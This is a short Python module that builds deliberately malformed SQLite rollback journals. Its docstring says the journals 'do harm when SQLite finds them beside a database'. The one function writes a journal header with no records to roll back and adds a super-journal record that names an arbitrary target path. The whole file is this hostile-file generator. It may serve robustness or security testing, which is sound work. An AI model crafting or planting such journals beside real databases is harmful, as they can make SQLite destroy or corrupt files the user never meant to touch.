"""Rollback journals that do harm when SQLite finds them beside a database."""

import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")


def misleading_journal(target: Path, pages: int, page_size: int = 4096) -> bytes:
    """A journal with nothing to roll back that names `target` its super-journal. Source: SQLite's file format, 3."""
    name = str(target).encode()
    head = struct.pack(">8sIIIII", _MAGIC, 0, 0, pages, 512, page_size).ljust(512, b"\0")
    locking_page = 2**30 // page_size + 1
    return head + struct.pack(f">I{len(name)}sII8s", locking_page, name, len(name), sum(name), _MAGIC)
